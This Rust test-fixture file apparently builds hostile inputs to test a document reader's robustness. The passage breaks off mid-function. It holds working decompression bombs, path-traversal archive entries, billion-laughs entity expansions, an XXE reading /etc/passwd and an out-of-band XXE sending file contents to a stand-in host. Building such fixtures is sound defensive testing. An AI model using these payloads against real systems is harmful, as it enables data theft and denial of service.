//! A [`Hostile`] input is a file made to break a reader: a bomb, a lie, a knot, or merely a cut.
//!
//! Every one is made at test time and small on disk. [`good`] writes articles that lie beside them and must be found all
//! the same, and [`inner`] names words of good articles inside hostile files that a damage elsewhere must not cost.

use std::{
    fmt::Write as _,
    fs::{self, File},
    io::{self, Write},
    path::Path,
};

use flate2::{
    Compress, Compression, Crc, FlushCompress,
    write::{DeflateEncoder, GzEncoder},
};

/// What a run makes of an input.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// It should have been read and could not: named with its reason.
    Problem,
    /// It is set aside on purpose: counted with its reason.
    Skipped,
}
use Kind::{Problem, Skipped};

/// One hostile input.
pub struct Hostile {
    /// The file or folder, under the folder that it is made in.
    pub name: &'static str,
    /// Makes it under a folder.
    pub make: fn(&Path) -> io::Result<()>,
    /// A piece of the reason that a kind program gives, in any case of letters; several with `|` between.
    pub says: &'static str,
    /// Whether it is a problem, or set aside.
    pub kind: Kind,
}

const fn bad(name: &'static str, says: &'static str, make: fn(&Path) -> io::Result<()>) -> Hostile {
    Hostile { name, make, says, kind: Problem }
}

const fn aside(name: &'static str, says: &'static str, make: fn(&Path) -> io::Result<()>) -> Hostile {
    Hostile { name, make, says, kind: Skipped }
}

/// All of them: sixty and more where the file system allows it.
pub fn all() -> Vec<Hostile> {
    let mut all = packed();
    all.extend(marked_up());
    all.extend(records());
    all.extend(multiplied());
    #[cfg(unix)]
    all.extend(on_disk());
    all
}

/// Words that stand in good articles inside hostile inputs, before, beside or after what is damaged.
pub fn inner() -> Vec<(&'static str, &'static str)> {
    vec![
        ("zip-cut.zip", "krelvincutzip"),
        ("zip-crc.zip", "krelvincrc"),
        ("zip-encrypted.zip", "krelvinlock"),
        ("zip-method.zip", "krelvinmethod"),
        ("zip-names.zip", "krelvinnames"),
        ("tar-cut.tar", "krelvincuttar"),
        ("tar-links.tar", "krelvinlinks"),
        ("tar-checksum.tar", "krelvinbefore"),
        ("tar-checksum.tar", "krelvinafter"),
        ("tar-gz-cut.tar.gz", "krelvincutgz"),
        ("jsonl-long-line.jsonl.gz", "krelvinlongline"),
        ("csv-quote.csv", "krelvinquote"),
        ("csv-wide-row.csv", "krelvinwide"),
        ("warc-length.warc", "krelvinlength"),
        ("warc-chunked.warc", "krelvinchunk"),
        ("warc-member.warc.gz", "krelvinmemberone"),
        ("warc-member.warc.gz", "krelvinmemberthree"),
        ("reuters-unclosed.sgm", "krelvinreuters"),
        ("mbox-headless.mbox", "krelvinmbox"),
    ]
}

// ---------------------------------------------------------------- pieces

/// An article of some length with `word` in it.
fn story(word: &str) -> String {
    let number: u32 = word.bytes().map(u32::from).sum();
    let pick = |of: &[&'static str], step: u32| of[(number / step) as usize % of.len()];
    let who = pick(&["minister", "envoy", "chancellor", "spokesman", "governor"], 1);
    let of = pick(&["Ostland", "Meridia", "Norhaven", "the Gulf Assembly"], 5);
    let what = pick(&["the treaty on fishing", "the closed border", "the loan", "the prisoners", "the canal"], 7);
    let when = pick(&["in spring", "before winter", "next week", "on Thursday"], 3);
    format!(
        "The {who} of {of} spoke about {what} with the {word} delegation. “We will sign {when},” the {who} said, and \
         added that {word} had been waiting for {what} since the talks of last year broke off."
    )
}

fn json(word: &str) -> String {
    format!("{{\"title\": \"Report {word}\", \"text\": \"{}\"}}", story(word))
}

/// A deflate stream put together from pieces that end at a byte, so that a piece can be repeated without being
/// compressed again.
struct Stream {
    bytes: Vec<u8>,
    crc: Crc,
    size: u64,
}

impl Stream {
    fn new() -> Self {
        Self { bytes: Vec::new(), crc: Crc::new(), size: 0 }
    }

    /// Adds bytes as they are.
    fn put(mut self, bytes: &[u8]) -> Self {
        for piece in bytes.chunks(60_000) {
            let length = u16::try_from(piece.len()).unwrap_or(u16::MAX);
            self.bytes.push(0);
            self.bytes.extend(length.to_le_bytes());
            self.bytes.extend((!length).to_le_bytes());
            self.bytes.extend_from_slice(piece);
        }
        self.crc.update(bytes);
        self.size += bytes.len() as u64;
        self
    }

    /// Adds `pattern` over and over, `mib` MiB of it in all, and a little more.
    fn run(mut self, pattern: &[u8], mib: u64) -> Self {
        let piece = pattern.repeat((4 << 20) / pattern.len() + 1);
        let mut packed = Vec::with_capacity(64 * 1024);
        let mut compress = Compress::new(Compression::best(), false);
        while compress.total_in() < piece.len() as u64 || packed.len() == packed.capacity() {
            packed.reserve(64 * 1024);
            let rest = &piece[compress.total_in() as usize..];
            if compress.compress_vec(rest, &mut packed, FlushCompress::Sync).is_err() {
                break;
            }
        }
        let mut crc = Crc::new();
        crc.update(&piece);
        for _ in 0..mib.div_ceil(4) {
            self.bytes.extend_from_slice(&packed);
            self.crc.combine(&crc);
            self.size += piece.len() as u64;
        }
        self
    }

    fn end(mut self) -> Self {
        self.bytes.extend([3, 0]);
        self
    }

    /// As a member of a gzip file.
    fn gzip(self) -> Vec<u8> {
        let stream = self.end();
        let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
        bytes.extend(&stream.bytes);
        bytes.extend(stream.crc.sum().to_le_bytes());
        bytes.extend((stream.size as u32).to_le_bytes());
        bytes
    }

    /// As a member of a zip.
    fn member(self, name: &str) -> Member {
        let Stream { bytes, crc, size } = self.end();
        Member { name: name.into(), method: 8, flags: 0, crc: crc.sum(), packed: bytes, size }
    }
}

fn gz(bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes)?;
    encoder.finish()
}

/// A member of a zip that is written by hand, so that it can lie.
struct Member {
    name: Vec<u8>,
    method: u16,
    flags: u16,
    crc: u32,
    packed: Vec<u8>,
    size: u64,
}

fn stored(name: &str, bytes: &[u8]) -> Member {
    let mut crc = Crc::new();
    crc.update(bytes);
    Member { name: name.into(), method: 0, flags: 0, crc: crc.sum(), packed: bytes.to_vec(), size: bytes.len() as u64 }
}

/// What stands after the signature and the version in both headers of a member.
fn common(member: &Member, extra: usize) -> Vec<u8> {
    let narrow = |size: u64| u32::try_from(size).unwrap_or(u32::MAX).to_le_bytes();
    let mut bytes = vec![45, 0];
    bytes.extend(member.flags.to_le_bytes());
    bytes.extend(member.method.to_le_bytes());
    bytes.extend([0, 0, 0x21, 0x58]);
    bytes.extend(member.crc.to_le_bytes());
    let wide = member.size >= u64::from(u32::MAX);
    bytes.extend(if wide { [0xff; 4] } else { narrow(member.packed.len() as u64) });
    bytes.extend(narrow(member.size));
    bytes.extend((member.name.len() as u16).to_le_bytes());
    bytes.extend((extra as u16).to_le_bytes());
    bytes
}

fn wide(member: &Member) -> Vec<u8> {
    if member.size < u64::from(u32::MAX) {
        return Vec::new();
    }
    let mut extra = vec![1, 0, 16, 0];
    extra.extend(member.size.to_le_bytes());
    extra.extend((member.packed.len() as u64).to_le_bytes());
    extra
}

fn local(member: &Member) -> Vec<u8> {
    let extra = wide(member);
    let mut bytes = b"PK\x03\x04".to_vec();
    bytes.extend(common(member, extra.len()));
    bytes.extend(&member.name);
    bytes.extend(extra);
    bytes.extend(&member.packed);
    bytes
}

fn central(member: &Member, offset: u64) -> Vec<u8> {
    let extra = wide(member);
    let mut bytes = b"PK\x01\x02\x2d\x03".to_vec();
    bytes.extend(common(member, extra.len()));
    bytes.extend([0; 6]);
    bytes.extend([0, 0, 0xa4, 0x81]);
    bytes.extend((offset as u32).to_le_bytes());
    bytes.extend(&member.name);
    bytes.extend(extra);
    bytes
}

/// The end of a zip's list of `count` members, with the wide record where they are too many.
fn end_of_list(count: u64, size: u64, start: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    if count >= 0xffff {
        bytes.extend(b"PK\x06\x06");
        bytes.extend(44_u64.to_le_bytes());
        bytes.extend([45, 3, 45, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        for number in [count, count, size, start] {
            bytes.extend(number.to_le_bytes());
        }
        bytes.extend(b"PK\x06\x07\0\0\0\0");
        bytes.extend(start.saturating_add(size).to_le_bytes());
        bytes.extend(1_u32.to_le_bytes());
    }
    let short = u16::try_from(count).unwrap_or(u16::MAX).to_le_bytes();
    bytes.extend(b"PK\x05\x06\0\0\0\0");
    bytes.extend(short);
    bytes.extend(short);
    bytes.extend((size as u32).to_le_bytes());
    bytes.extend((start as u32).to_le_bytes());
    bytes.extend([0, 0]);
    bytes
}

fn zip(members: &[Member]) -> Vec<u8> {
    let (mut bytes, mut list) = (Vec::new(), Vec::new());
    for member in members {
        list.extend(central(member, bytes.len() as u64));
        bytes.extend(local(member));
    }
    let (start, size) = (bytes.len() as u64, list.len() as u64);
    bytes.extend(list);
    bytes.extend(end_of_list(members.len() as u64, size, start));
    bytes
}

fn tar_member(name: &str, bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut header = tar::Header::new_gnu();
    header.set_path(name)?;
    header.set_size(bytes.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    let mut member = header.as_bytes().to_vec();
    member.extend_from_slice(bytes);
    member.resize(member.len().next_multiple_of(512), 0);
    Ok(member)
}

/// A header alone, changed by `change` before its checksum is taken.
fn tar_header(name: &str, change: impl Fn(&mut tar::Header)) -> Vec<u8> {
    let mut header = tar::Header::new_gnu();
    if let Some(field) = header.as_old_mut().name.get_mut(..name.len()) {
        field.copy_from_slice(name.as_bytes());
    }
    header.set_size(0);
    header.set_mode(0o644);
    change(&mut header);
    header.set_cksum();
    header.as_bytes().to_vec()
}

/// A zstd frame with one raw block.
fn zstd(bytes: &[u8]) -> Vec<u8> {
    let mut frame = b"\x28\xb5\x2f\xfd\xa0".to_vec();
    frame.extend((bytes.len() as u32).to_le_bytes());
    frame.extend(&(((bytes.len() as u32) << 3) | 1).to_le_bytes()[..3]);
    frame.extend_from_slice(bytes);
    frame
}

fn nitf(dtd: &str, body: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{dtd}<nitf><head><title>Report</title></head><body>\
         <body.content>{body}</body.content></body></nitf>\n"
    )
}

/// A record of a web archive.
fn warc(kind: &str, address: &str, length: u64, body: &[u8]) -> Vec<u8> {
    let mut bytes = format!(
        "WARC/1.0\r\nWARC-Type: {kind}\r\nWARC-Target-URI: {address}\r\nContent-Type: application/http; \
         msgtype=response\r\nContent-Length: {length}\r\n\r\n"
    )
    .into_bytes();
    bytes.extend_from_slice(body);
    bytes.extend(b"\r\n\r\n");
    bytes
}

fn answer(headers: &str, body: &str) -> Vec<u8> {
    format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{headers}\r\n{body}").into_bytes()
}

fn page(word: &str) -> String {
    format!(
        "<!DOCTYPE html><html><head><title>Report {word}</title></head><body><article><h1>Report {word}</h1><p>{}</p>\
         </article></body></html>\n",
        story(word)
    )
}

fn warc_page(word: &str) -> Vec<u8> {
    let body = answer("", &page(word));
    warc("response", &format!("http://news.example/{word}"), body.len() as u64, &body)
}

fn docx(document: Member) -> Vec<u8> {
    let types = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>";
    zip(&[stored("[Content_Types].xml", types.as_bytes()), document])
}

fn odt(content: &str) -> Vec<u8> {
    zip(&[stored("mimetype", b"application/vnd.oasis.opendocument.text"), stored("content.xml", content.as_bytes())])
}

/// A PDF of these objects, numbered from 1.
fn pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut bytes = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut table = format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    for (number, object) in (1..).zip(objects) {
        let _ = writeln!(table, "{:010} 00000 n ", bytes.len());
        bytes.extend(format!("{number} 0 obj\n").into_bytes());
        bytes.extend_from_slice(object);
        bytes.extend(b"\nendobj\n");
    }
    let start = bytes.len();
    bytes.extend(table.into_bytes());
    let size = objects.len() + 1;
    bytes.extend(format!("trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n").into_bytes());
    bytes
}

/// Bytes that follow no pattern and are the same in every run.
fn noise(count: usize) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()[3]
    };
    // A first byte that opens no known format.
    let mut bytes = vec![0x07, 0x00];
    bytes.extend((2..count).map(|_| next()));
    bytes
}

fn write(folder: &Path, name: &str, bytes: impl AsRef<[u8]>) -> io::Result<()> {
    fs::write(folder.join(name), bytes)
}

// ---------------------------------------------------------------- containers

fn packed() -> Vec<Hostile> {
    vec![
        // 10 GiB of spaces in 640 members: nothing in them gives a format away, so that all of it must be looked at.
        bad("gzip-bomb.txt.gz", "limit", |folder| {
            let member = Stream::new().run(b"        ", 16).gzip();
            write(folder, "gzip-bomb.txt.gz", member.repeat(640))
        }),
        bad("gzip-one-line.json.gz", "limit", |folder| {
            let stream = Stream::new().put(b"{\"title\": \"Report\", \"text\": \"").run(b"talks ", 2048).put(b"\"}\n");
            write(folder, "gzip-one-line.json.gz", stream.gzip())
        }),
        bad("gzip-nested.gz", "nested|inside", |folder| {
            let mut bytes = story("nested").into_bytes();
            for _ in 0..6 {
                bytes = gz(&bytes)?;
            }
            write(folder, "gzip-nested.gz", bytes)
        }),
        bad("zip-bomb.zip", "limit", |folder| {
            write(folder, "zip-bomb.zip", zip(&[Stream::new().run(b"talks ", 10 << 10).member("report.txt")]))
        }),
        // Its headers say 100 bytes.
        bad("zip-size-lie.zip", "limit|size|damaged|more than", |folder| {
            let mut member = Stream::new().run(b"talks ", 1024).member("report.txt");
            member.size = 100;
            write(folder, "zip-size-lie.zip", zip(&[member]))
        }),
        bad("zip-nested.zip", "nested", |folder| {
            let mut bytes = zip(&[stored("report.txt", story("nested").as_bytes())]);
            for level in 0..12 {
                bytes = zip(&[stored(&format!("level-{level}.zip"), &bytes)]);
            }
            write(folder, "zip-nested.zip", bytes)
        }),
        // 4,000 members that are all the same 48 MiB: each within any limit, 190 GB together.
        bad("zip-overlap.zip", "overlap|same bytes|total|altogether|bomb", |folder| {
            let mut kernel = Stream::new().put(b"Talks\n\n").run(b"talks ", 48).member("0000.txt");
            let mut bytes = local(&kernel);
            let (start, mut list) = (bytes.len() as u64, Vec::new());
            for number in 0..4000 {
                kernel.name = format!("{number:04}.txt").into_bytes();
                list.extend(central(&kernel, 0));
            }
            let size = list.len() as u64;
            bytes.extend(list);
            bytes.extend(end_of_list(4000, size, start));
            write(folder, "zip-overlap.zip", bytes)
        }),
        aside("zip-many-empty.zip", "empty", |folder| {
            let members: Vec<Member> = (0..100_000).map(|number| stored(&format!("{number}.txt"), b"")).collect();
            write(folder, "zip-many-empty.zip", zip(&members))
        }),
        // Members that would leave the folder if they were unpacked; what they hold is cut, so that each is named.
        bad("zip-names.zip", "invalid JSON", |folder| {
            let names = [
                "../../etc/passwd",
                "/etc/shadow",
                "C:\\Windows\\win.ini",
                "a\0b.txt",
                "..\\..\\x",
                "con",
                "a/../../b",
            ];
            let mut members: Vec<Member> = names.iter().map(|name| stored(name, b"{\"text\": \"cut")).collect();
            members.push(stored("report.json", json("krelvinnames").as_bytes()));
            write(folder, "zip-names.zip", zip(&members))
        }),
        bad("zip-cut.zip", "zip", |folder| {
            let whole = zip(&[
                stored("a.json", json("krelvincutzip").as_bytes()),
                stored("b.txt", story("lost").repeat(40).as_bytes()),
            ]);
            write(folder, "zip-cut.zip", &whole[..whole.len() / 2])
        }),
        bad("zip-crc.zip", "checksum|crc", |folder| {
            let mut member = stored("a.txt", story("crc").as_bytes());
            member.crc ^= 1;
            write(folder, "zip-crc.zip", zip(&[member, stored("b.json", json("krelvincrc").as_bytes())]))
        }),
        bad("zip-encrypted.zip", "encrypted|password", |folder| {
            let mut member = stored("a.txt", &noise(200));
            member.flags = 1;
            write(folder, "zip-encrypted.zip", zip(&[member, stored("b.json", json("krelvinlock").as_bytes())]))
        }),
        bad("zip-method.zip", "method|not supported|lzma", |folder| {
            let mut member = stored("a.txt", &noise(200));
            member.method = 14;
            write(folder, "zip-method.zip", zip(&[member, stored("b.json", json("krelvinmethod").as_bytes())]))
        }),
        // A list of 2^60 members of 2^63 bytes.
        bad("zip-zip64-lie.zip", "zip", |folder| {
            let mut member = stored("a.txt", b"Talks");
            member.size = 1 << 63;
            let mut bytes = local(&member);
            let start = bytes.len() as u64;
            bytes.extend(central(&member, 0));
            bytes.extend(end_of_list(1 << 60, 1 << 62, start));
            write(folder, "zip-zip64-lie.zip", bytes)
        }),
        bad("tar-cut.tar", "tar", |folder| {
            let mut bytes = tar_member("a.json", json("krelvincuttar").as_bytes())?;
            bytes.extend(tar_member("b.txt", story("lost").repeat(20).as_bytes())?);
            bytes.truncate(bytes.len() - 3000);
            write(folder, "tar-cut.tar", bytes)
        }),
        // Links, a device and a FIFO; and names that lead out, of which nothing is unpacked.
        aside("tar-links.tar", "link or device", |folder| {
            let mut bytes = Vec::new();
            for (name, kind, to) in [
                ("passwd", tar::EntryType::Symlink, "/etc/passwd"),
                ("shadow", tar::EntryType::Link, "../../../etc/shadow"),
                ("disk", tar::EntryType::Block, ""),
                ("null", tar::EntryType::Char, ""),
                ("pipe", tar::EntryType::Fifo, ""),
            ] {
                bytes.extend(tar_header(name, |header| {
                    header.set_entry_type(kind);
                    header.as_old_mut().linkname[..to.len()].copy_from_slice(to.as_bytes());
                }));
            }
            let report = json("krelvinlinks");
            bytes.extend(tar_header("../../../tmp/report.json", |header| header.set_size(report.len() as u64)));
            bytes.extend(report.as_bytes());
            bytes.resize(bytes.len().next_multiple_of(512) + 1024, 0);
            write(folder, "tar-links.tar", bytes)
        }),
        bad("tar-size-lie.tar", "tar", |folder| {
            let mut bytes = tar_header("a.txt", |header| header.set_size(8 << 60));
            bytes.extend(story("lie").repeat(10).bytes());
            write(folder, "tar-size-lie.tar", bytes)
        }),
        bad("tar-checksum.tar", "tar", |folder| {
            let mut bytes = tar_member("a.json", json("krelvinbefore").as_bytes())?;
            let mut damaged = tar_member("b.txt", story("lost").as_bytes())?;
            damaged[150] ^= 1;
            bytes.extend(damaged);
            bytes.extend(tar_member("c.json", json("krelvinafter").as_bytes())?);
            bytes.resize(bytes.len() + 1024, 0);
            write(folder, "tar-checksum.tar", bytes)
        }),
        bad("tar-gz-cut.tar.gz", "breaks off|damaged|cut", |folder| {
            let mut bytes = tar_member("a.json", json("krelvincutgz").as_bytes())?;
            bytes.extend(tar_member("b.txt", &noise(60_000))?);
            let packed = gz(&bytes)?;
            write(folder, "tar-gz-cut.tar.gz", &packed[..packed.len() / 2])
        }),
        // 10 GiB as blocks of one repeated byte.
        bad("zstd-bomb.txt.zst", "limit", |folder| {
            let mut frame = b"\x28\xb5\x2f\xfd\x00\x58".to_vec();
            let block = (((128 << 10) << 3) | 2_u32).to_le_bytes();
            for _ in 0..80 * 1024 {
                frame.extend([block[0], block[1], block[2], b'a']);
            }
            frame.extend([1, 0, 0]);
            write(folder, "zstd-bomb.txt.zst", frame)
        }),
        bad("zstd-window.txt.zst", "window", |folder| {
            let mut frame = b"\x28\xb5\x2f\xfd\x00\xf8".to_vec();
            frame.extend([(5 << 3) | 1, 0, 0]);
            frame.extend(b"Talks");
            write(folder, "zstd-window.txt.zst", frame)
        }),
        bad("zstd-dictionary.txt.zst", "dictionary", |folder| {
            let mut frame = b"\x28\xb5\x2f\xfd\x03\x58\x39\x05\0\0".to_vec();
            frame.extend([(5 << 3) | 1, 0, 0]);
            frame.extend(b"Talks");
            write(folder, "zstd-dictionary.txt.zst", frame)
        }),
        bad("zstd-cut.txt.zst", "breaks off|damaged|cut", |folder| {
            let whole = zstd(story("cut").as_bytes());
            write(folder, "zstd-cut.txt.zst", &whole[..whole.len() / 2])
        }),
        bad("docx-bomb.docx", "limit", |folder| {
            let document = Stream::new().put(b"<w:document xmlns:w='w'><w:body>").run(b"<w:p></w:p>", 10 << 10);
            write(folder, "docx-bomb.docx", docx(document.member("word/document.xml")))
        }),
        bad("odt-entities.odt", "entit", |folder| {
            let content = format!(
                "{}<o:document-content xmlns:o='o' xmlns:t='t'><o:body><o:text><t:p>&l9;</t:p></o:text></o:body>\
                 </o:document-content>",
                laughs("o:document-content")
            );
            write(folder, "odt-entities.odt", odt(&content))
        }),
    ]
}

/// Entities that hold one another, a thousand million words in the end.
fn laughs(root: &str) -> String {
    let mut dtd = format!("<!DOCTYPE {root} [<!ENTITY l0 \"talks \">");
    for level in 1..10 {
        let _ = write!(dtd, "<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10));
    }
    dtd + "]>"
}

// ---------------------------------------------------------------- mark-up

fn marked_up() -> Vec<Hostile> {
    vec![
        bad("nitf-laughs.xml", "entit", |folder| {
            write(folder, "nitf-laughs.xml", nitf(&laughs("nitf"), "<p>&l9;</p>"))
        }),
        // One entity of 100 kB, 100,000 times: 10 GB.
        bad("nitf-quadratic.xml", "entit|limit|XML is not read", |folder| {
            let dtd = format!("<!DOCTYPE nitf [<!ENTITY a \"{}\">]>", "talks ".repeat(17_000));
            write(folder, "nitf-quadratic.xml", nitf(&dtd, &format!("<p>{}</p>", "&a;".repeat(100_000))))
        }),
        bad("nitf-external.xml", "entit", |folder| {
            let dtd = "<!DOCTYPE nitf [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
            write(folder, "nitf-external.xml", nitf(dtd, "<p>&x;</p>"))
        }),
        bad("nitf-parameters.xml", "entit", |folder| {
            let dtd = "<!DOCTYPE nitf SYSTEM \"http://dtd.example/nitf.dtd\" [<!ENTITY % f SYSTEM \"file:///etc/passwd\">\
                       <!ENTITY % e \"<!ENTITY s SYSTEM 'http://dtd.example/?%f;'>\">%e;]>";
            write(folder, "nitf-parameters.xml", nitf(dtd, "<p>&s;</p>"))
        }),
        bad("nitf-deep.xml", "nested|deep", |folder| {
            write(folder, "nitf-deep.xml", nitf("", &("<q>".repeat(100_000) + &"</q>".repeat(100_000))))
        }),
        bad("nitf-attributes.xml", "attribute", |folder| {
            let mut body = String::from("<p");
            for number in 0..1_000_000 {
                let _ = write!(body, " a{number}=\"1\"");
            }
            body.push_str("></p>");
            write(folder, "nitf-attributes.xml", nitf("", &body))
        }),
        // Two million openings without an end in sight: every search for the next `>` goes to the end.
        bad("nitf-unclosed.xml", "XML|nested", |folder| {
            write(folder, "nitf-unclosed.xml", nitf("", &"<p ".repeat(2_000_000)))
        }),
        // As many ampersands that close nothing, beside as many names that are not declared.
        bad("nitf-names.xml", "entit|XML", |folder| {
            let mut body = String::new();
            for number in 0..300_000 {
                let _ = write!(body, "&n{number}; ");
            }
            write(folder, "nitf-names.xml", nitf("", &format!("<p>{body}</p>")))
        }),
        bad("html-deep.html", "nested|deep", |folder| {
            let divs = "<div>".repeat(200_000);
            write(folder, "html-deep.html", format!("<!DOCTYPE html><body>{divs}<p>{}</p>", story("deep")))
        }),
        bad("html-unclosed.html", "nested|deep|elements", |folder| {
            let tags = "<b><i><p><a href=x>".repeat(250_000);
            write(folder, "html-unclosed.html", format!("<!DOCTYPE html><body>{tags}"))
        }),
        // Elements that may not be nested close one another, but the formatting of each is opened anew in the next.
        bad("html-formatting.html", "no article|nested|elements|limit", |folder| {
            let mut tags = String::new();
            for number in 0..1900 {
                let _ = write!(tags, "<p><font size={number}>");
            }
            write(folder, "html-formatting.html", format!("<!DOCTYPE html><body>{tags}"))
        }),
        bad("html-attribute.html", "no article|no text|attribute", |folder| {
            let value = "talks ".repeat(1_700_000);
            write(folder, "html-attribute.html", format!("<!DOCTYPE html><body><p title=\"{value}\"></p></body>"))
        }),
        bad("reuters-unclosed.sgm", "not closed", |folder| {
            let record = |number: u32, body: &str| {
                format!("<REUTERS NEWID=\"{number}\"><TEXT><TITLE>REPORT</TITLE><BODY>{body}</BODY></TEXT>")
            };
            let text = format!(
                "<!DOCTYPE lewis SYSTEM \"lewis.dtd\">\n{}\n{}\n</REUTERS>\n",
                record(1, &story("unclosed")),
                record(2, &story("krelvinreuters"))
            );
            write(folder, "reuters-unclosed.sgm", text)
        }),
        bad("rtf-groups.rtf", "RTF|nested|group", |folder| {
            let text = format!("{{\\rtf1\\ansi {}Talks{}}}", "{\\b ".repeat(1_000_000), "}".repeat(1_000_000));
            write(folder, "rtf-groups.rtf", text)
        }),
        bad("pdf-loop.pdf", "PDF|page|loop|itself", |folder| {
            let objects = [
                b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000 >>".to_vec(),
                b"<< /Type /Pages /Kids [2 0 R] /Parent 3 0 R /Count 4 0 R >>".to_vec(),
                b"4 0 R".to_vec(),
            ];
            write(folder, "pdf-loop.pdf", pdf(&objects))
        }),
        bad("pdf-bomb.pdf", "PDF|limit", |folder| {
            let stream = Stream::new().put(b"BT /F1 12 Tf ").run(b"(talks) Tj ", 4096).end();
            let mut body =
                format!("<< /Length {} /Filter /FlateDecode >>\nstream\n", stream.bytes.len() + 2).into_bytes();
            body.extend([0x78, 0xda]);
            body.extend(&stream.bytes);
            body.extend(b"\nendstream");
            let objects = [
                b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
                b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /MediaBox [0 0 612 792] >>".to_vec(),
                body,
            ];
            write(folder, "pdf-bomb.pdf", pdf(&objects))
        }),
        // Named as what it is not.
        bad("pdf-cut.txt", "PDF", |folder| {
            let whole = pdf(&[b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(), noise(3000)]);
            write(folder, "pdf-cut.txt", &whole[..1500])
        }),
        aside("picture.html", "image|picture", |folder| {
            write(folder, "picture.html", [b"\xff\xd8\xff\xe0\0\x10JFIF\0".as_slice(), &noise(2000)].concat())
        }),
    ]
}

// ---------------------------------------------------------------- records

fn records() -> Vec<Hostile> {
    vec![
        bad("json-deep.json", "recursion|nested|deep", |folder| {
            write(folder, "json-deep.json", "[".repeat(1_000_000) + &"]".repeat(1_000_000))
        }),
        bad("json-surrogate.json", "surrogate|escape|JSON", |folder| {
            write(folder, "json-surrogate.json", "{\"title\": \"Talks\", \"text\": \"Talks \\ud800 in Ostland\"}")
        }),
        bad("json-duplicate.json", "duplicate|twice|more than once", |folder| {
            let (one, two) = (story("first"), story("second"));
            write(folder, "json-duplicate.json", format!("{{\"text\": \"{one}\", \"text\": \"{two}\"}}"))
        }),
        bad("json-utf8.json", "UTF-8", |folder| {
            let text = "{\"text\": \"Київ — столиця України, Москва — столица России".as_bytes();
            write(folder, "json-utf8.json", [text, b" \xd0 \"}"].concat())
        }),
        bad("json-cut.json", "invalid JSON|breaks off|cut", |folder| {
            let whole = format!("[{}, {}]", json("one"), json("two"));
            write(folder, "json-cut.json", &whole[..whole.len() - 40])
        }),
        bad("jsonl-long-line.jsonl.gz", "limit", |folder| {
            // No denser than a text may be, so that it is its length alone that is refused.
            let mut words = String::new();
            for number in 0..50_000 {
                words.push_str(&format!("talk{number} ").repeat(8));
            }
            let stream = Stream::new().put(b"{\"text\": \"").run(words.as_bytes(), 72).put(b"\"}\n");
            let stream = stream.put(json("krelvinlongline").as_bytes()).put(b"\n");
            write(folder, "jsonl-long-line.jsonl.gz", stream.gzip())
        }),
        bad("csv-quote.csv", "quotation mark|closed|quote", |folder| {
            let mut text = format!("title,text\nReport,\"{}\"\n", story("krelvinquote"));
            let _ = writeln!(text, "Report,\"{}", story("open"));
            for number in 0..20 {
                let _ = writeln!(text, "Report {number},{}", story("swallowed").replace(',', ""));
            }
            write(folder, "csv-quote.csv", text)
        }),
        bad("csv-wide-row.csv", "cells|columns", |folder| {
            let text = format!("title,text\nReport,{}\n", "talks,".repeat(1_000_000));
            write(folder, "csv-wide-row.csv", format!("{text}Report,\"{}\"\n", story("krelvinwide")))
        }),
        // A million columns, and rows that have them.
        bad("csv-wide-head.csv", "columns|cells|no text|limit", |folder| {
            let mut head = String::new();
            for number in 0..500_000 {
                let _ = write!(head, "c{number},");
            }
            write(folder, "csv-wide-head.csv", format!("{head}\n{}\n", format!("{}\n", ",".repeat(500_000)).repeat(4)))
        }),
        bad("text-zero-bytes.txt", "binary", |folder| {
            write(folder, "text-zero-bytes.txt", format!("Talks\n\n{}\0\0{}", story("zero"), story("bytes")))
        }),
        // 2 GiB that take no place on the disk.
        bad("text-sparse.txt", "binary|limit", |folder| File::create(folder.join("text-sparse.txt"))?.set_len(2 << 30)),
        bad("text-utf8.txt", "UTF-8", |folder| {
            let text = "Київ — столиця України, Москва — столица России. ".repeat(20);
            write(folder, "text-utf8.txt", [text.as_bytes(), b"\xff\xfe\xd0\n"].concat())
        }),
        bad("text-utf16-odd.txt", "UTF-16", |folder| {
            let mut bytes: Vec<u8> = story("odd").encode_utf16().flat_map(u16::to_le_bytes).collect();
            bytes.truncate(bytes.len() - 1);
            write(folder, "text-utf16-odd.txt", [b"\xff\xfe".as_slice(), &bytes].concat())
        }),
        bad("noise.txt", "binary", |folder| write(folder, "noise.txt", noise(100_000))),
        aside("empty.json", "empty", |folder| write(folder, "empty.json", "")),
        aside("only-mark.txt", "empty", |folder| write(folder, "only-mark.txt", b"\xef\xbb\xbf")),
        bad("mbox-headless.mbox", "header|without text|no text", |folder| {
            let good = story("krelvinmbox");
            let text = format!(
                "From a@news.example Mon Mar  3 10:00:00 2014\n\nFrom b@news.example Mon Mar  3 10:00:00 2014\n\
                 Subject: Report\nMessage-ID: <b@news.example>\n\n{good}\n"
            );
            write(folder, "mbox-headless.mbox", text)
        }),
        bad("mail-nested.eml", "nested|without text|deep|binary", |folder| {
            let mut text = String::from("Message-ID: <n@news.example>\nSubject: Report\nMIME-Version: 1.0\n");
            for level in 0..1000 {
